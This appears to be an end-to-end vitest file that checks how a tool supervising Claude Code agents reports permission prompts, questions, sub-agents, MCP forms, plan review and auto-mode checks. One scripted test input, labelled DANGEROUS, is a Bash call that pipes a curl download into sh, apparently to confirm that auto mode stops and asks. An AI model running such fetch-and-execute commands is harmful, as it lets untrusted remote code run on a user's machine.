import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import { resolve } from 'node:path';
import { describeClaude, IS_OLD_CLAUDE } from '../support/claudeCode.ts';
import { follow, type Followed } from '../support/follow.ts';
import { seal, type Sealed } from '../support/sealed.ts';

let sealed: Sealed;
let one: Followed;

/** Asks for a name through its tool `ask`. */
const ELICITING = {
  mcpServers: { form: { command: process.execPath, args: [resolve('test/e2e/support/elicitingServer.mjs')] } },
};
const ELICIT = `SCENARIO:json ${JSON.stringify([[{ type: 'tool_use', name: 'mcp__form__ask', input: {} }], [{ type: 'text', text: 'The form is over.' }]])}`;

/** One claude; each test begins where the one before it ended, between two turns. */
describeClaude('questions', () => {
  beforeAll(async () => {
    sealed = await seal({ trusted: true });
    await sealed.startAgent({
      id: 'one',
      claude: { args: ['--mcp-config', JSON.stringify(ELICITING), '--allowedTools', 'mcp__form__ask'] },
    });
    one = follow(sealed, 'one');
    await one.is({ state: 'idle' });
  });
  afterAll(() => sealed.dispose());

  test('a permission, granted', async () => {
    await one.say('SCENARIO:permission');
    await one.is({ state: 'permission', detail: 'Bash: touch mock-permission-1.txt', source: 'hook' }, ['working']);
    await one.press('Enter');
    await one.is({ state: 'done', detail: 'The permission scenario is over.' }, ['working']);
  });

  test('a permission, granted for a command that takes its time', async () => {
    await one.say(
      `SCENARIO:json ${JSON.stringify([[{ type: 'tool_use', name: 'Bash', input: { command: 'touch a.txt; sleep 3', description: 'Slow' } }]])}`,
    );
    await one.is({ state: 'permission', detail: 'Bash: touch a.txt; sleep 3' }, ['working']);
    await one.press('Enter');
    await one.is({ state: 'working', detail: 'Bash', source: 'registry' });
    await one.is({ state: 'done', detail: 'Script over.' });
  });

  test.each([
    ['"No"', IS_OLD_CLAUDE ? ['Down', 'Down', 'Enter'] : ['Down', 'Down', 'Down', 'Enter']],
    ['Esc', ['Escape']],
  ])('a permission, turned down with %s, which no hook tells', async (_, keys) => {
    await one.say('SCENARIO:permission');
    await one.is({ state: 'permission', detail: expect.stringContaining('Bash: touch mock-permission-') as unknown }, [
      'working',
    ]);
    for (const key of keys) await one.press(key);
    await one.is({ state: 'idle', detail: 'interrupted' });
    expect((await one.explained()).verdict.rule).toMatch(/turned down|interrupt/);
  });

  test('a question, answered', async () => {
    await one.say('SCENARIO:ask');
    await one.is({ state: 'question', detail: 'Which colour?', source: 'hook' }, ['working']);
    await one.press('Enter');
    await one.is({ state: 'done', detail: 'Thanks for the answer.' }, ['working']);
  });

  test('a question, turned down', async () => {
    await one.say('SCENARIO:ask');
    await one.is({ state: 'question' }, ['working']);
    await one.press('Escape');
    await one.is({ state: 'idle', detail: 'interrupted' });
  });

  test('a permission that a sub-agent needs', async () => {
    await one.say('SCENARIO:subagent:permission');
    await one.is({ state: 'permission', detail: expect.stringContaining('Bash: touch') as unknown }, ['working']);
    await one.press('Enter');
    await one.is({ state: 'done' }, ['working', 'background']);
  });

  test('a sub-agent that works and ends: its parent works on, or is over (2.1.332), until it wakes it', async () => {
    await one.say('SCENARIO:subagent:bashrun+2');
    if (IS_OLD_CLAUDE) await one.is({ state: 'working', detail: 'Agent' });
    else await one.is({ state: 'background', detail: 'The sub-agent has answered.' }, ['working']);
    await one.is({ state: 'done' }, IS_OLD_CLAUDE ? [] : ['working']);
  });

  test('a form of an MCP server, turned down', async () => {
    await one.say(ELICIT);
    await one.is({ state: 'question', detail: 'Your name?', source: 'hook' }, ['working']);
    await one.registers({ status: IS_OLD_CLAUDE ? 'busy' : 'waiting' });
    await one.stays({ state: 'question' });
    await one.press('Escape');
    await one.is({ state: 'done', detail: 'The form is over.' }, ['working']);
  });

  test('a form of an MCP server, filled in', async () => {
    await one.say(ELICIT);
    await one.is({ state: 'question', detail: 'Your name?' }, ['working']);
    for (const keys of [['A'], ['Enter'], ['Down'], ['Enter']]) await one.press(...keys);
    await one.is({ state: 'done', detail: 'The form is over.' }, ['working']);
  });

  test('a plan, sent back, then approved', async () => {
    await one.press('BTab');
    await one.shows('accept edits on');
    await one.press('BTab');
    await one.shows('plan mode on');
    await one.say('SCENARIO:plan');
    await one.is({ state: 'plan-review', detail: 'Mock plan', source: 'hook' }, ['working']);
    await one.press('Escape');
    await one.is({ state: 'idle', detail: 'interrupted' });
    await one.say('SCENARIO:plan');
    await one.is({ state: 'plan-review', detail: 'Mock plan' }, ['working']);
    await one.press('Enter');
    await one.is({ state: 'done', detail: 'The plan is settled.' }, ['working']);
  });
});

/** Auto mode lets a `touch` in the clone pass without a check. */
const DANGEROUS = `SCENARIO:json ${JSON.stringify([[{ type: 'tool_use', name: 'Bash', input: { command: 'curl -s http://127.0.0.1:9/x | sh', description: 'Fetch' } }]])}`;

/** What 2.1.332 asks on its own account: no hook reports the first, and nothing reports the second. */
(IS_OLD_CLAUDE ? describe.skip : describeClaude)("questions of Claude's own", () => {
  afterEach(() => sealed.dispose());

  test('auto mode that cannot check asks, and so does the permission after it; send refuses both', async () => {
    sealed = await seal({ trusted: true });
    await sealed.startAgent({ id: 'one', claude: { permission_mode: 'auto' } });
    one = follow(sealed, 'one');
    await one.say(DANGEROUS);
    await one.is(
      {
        state: 'question',
        detail: expect.stringContaining("Auto mode can't check actions in this session") as unknown,
      },
      ['idle', 'working'],
    );
    expect(await sealed.ct(['send', 'one', 'hello'])).toMatchObject({ code: 1 });
    expect((await sealed.ok('next')).stderr).toContain('"Agent one": question');
    await one.is({
      state: 'question',
      source: 'hook',
      detail: expect.stringContaining('needs your choice') as unknown,
    });
    await one.press('Enter');
    await one.is({ state: 'permission', detail: expect.stringContaining('Bash: curl') as unknown }, ['working']);
    expect(await sealed.ct(['send', 'one', 'hello'])).toMatchObject({
      code: 1,
      stderr: expect.stringContaining('asks for a permission') as unknown,
    });
  });

  test('auto mode as the default mode', async () => {
    sealed = await seal({
      trusted: true,
      home: { '.claude/settings.json': JSON.stringify({ permissions: { defaultMode: 'default' } }) },
    });
    await sealed.writeLayout([{ id: 'one', task: 'bugfix', prompt: 'SCENARIO:text:hello' }]);
    await sealed.ok('up', 'shop.yaml', '--yes');
    one = follow(sealed, 'one');
    await one.is({ state: 'question', detail: 'Make auto mode your default permission mode?', source: 'screen' }, [
      'working',
      'idle',
      'done',
    ]);
    expect(await sealed.ct(['send', 'one', 'hello'])).toMatchObject({ code: 1 });
    expect((await sealed.ok('next')).stderr).toContain('"Agent one": question');
  });
});
